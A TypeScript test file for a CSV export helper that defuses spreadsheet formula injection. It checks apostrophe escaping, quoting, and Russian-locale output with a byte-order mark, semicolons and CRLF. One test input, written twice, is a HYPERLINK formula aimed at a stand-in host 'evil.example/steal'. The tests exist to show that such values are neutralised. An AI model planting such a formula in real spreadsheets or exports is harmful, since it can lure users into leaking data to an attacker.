import { csvCell, csvTable, inertSpreadsheetText } from './csv';

test('a value that would start a formula becomes text', () => {
  for (const planted of [
    '=HYPERLINK("http://evil.example/steal")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
  ])
    expect(inertSpreadsheetText(planted)).toBe(`'${planted}`);
  for (const plain of ['Иванов', '10.0.0.7', '2026-11-20T03:00:00.000Z', ' =1', ''])
    expect(inertSpreadsheetText(plain)).toBe(plain);
});

test('a cell is quoted when it holds the separator, a quote or a line break, after it is made inert', () => {
  expect(csvCell('=HYPERLINK("http://evil.example/steal")')).toBe(
    `"'=HYPERLINK(""http://evil.example/steal"")"`,
  );
  expect(csvCell('a;b')).toBe('"a;b"');
  expect(csvCell('строка\nвторая')).toBe('"строка\nвторая"');
  expect(csvCell(null)).toBe('');
});

test('a table opens in Russian spreadsheets: byte-order mark, «;», CRLF after every line', () => {
  expect(
    csvTable(
      ['Кто', 'Адрес'],
      [
        ['Иванов', '-1'],
        [null, '10.0.0.7'],
      ],
    ),
  ).toBe("\uFEFFКто;Адрес\r\nИванов;'-1\r\n;10.0.0.7\r\n");
});
